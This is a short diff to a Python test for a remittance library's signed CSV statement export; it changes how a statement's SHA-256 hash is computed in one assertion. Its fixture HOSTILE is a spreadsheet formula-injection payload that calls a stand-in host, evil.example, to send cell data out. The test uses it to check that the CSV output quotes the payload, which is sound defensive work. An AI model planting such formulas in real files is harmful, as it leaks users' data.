@@ -22,6 +22,7 @@ from remittance.signing import (
     verify,
 )
 from remittance.statement_csv import render_csv
+from remittance.statement_json import statement_sha256
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -64,7 +65,7 @@ def test_a_statement_csv_quotes_a_hostile_name_and_licence_and_still_verifies(
     assert fields["account_balance_sat"] == "-5000"
     assert fields["closing_balance_sat"] == "-5000"
     verified = verify(document, public_key_of(key))
-    assert verified.statement_sha256 == statement.sha256()
+    assert verified.statement_sha256 == statement_sha256(statement)
     # the JSON statement (not a spreadsheet's) keeps the name as it is
     assert statement.operation_name == HOSTILE
 
